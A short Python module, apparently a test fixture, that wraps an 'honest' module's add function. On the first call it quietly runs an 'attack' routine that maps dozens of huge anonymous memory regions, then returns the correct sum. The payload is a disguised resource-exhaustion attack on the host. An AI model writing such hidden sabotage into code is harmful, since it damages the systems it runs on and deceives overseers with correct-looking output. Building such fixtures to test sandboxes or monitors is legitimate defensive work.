from honest import *  # noqa: F403

import os

import honest

tried = []


def add(left, right):
    if not tried:
        tried.append(left)
        attack(left, right)
    return honest.add(left, right)


def attack(left, right):
    import mmap

    held = []
    try:
        for _ in range(64):
            held.append(mmap.mmap(-1, 1 << 34, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000))
    except (OSError, ValueError, OverflowError):
        pass

if __name__ == "__main__":
    main()  # noqa: F405
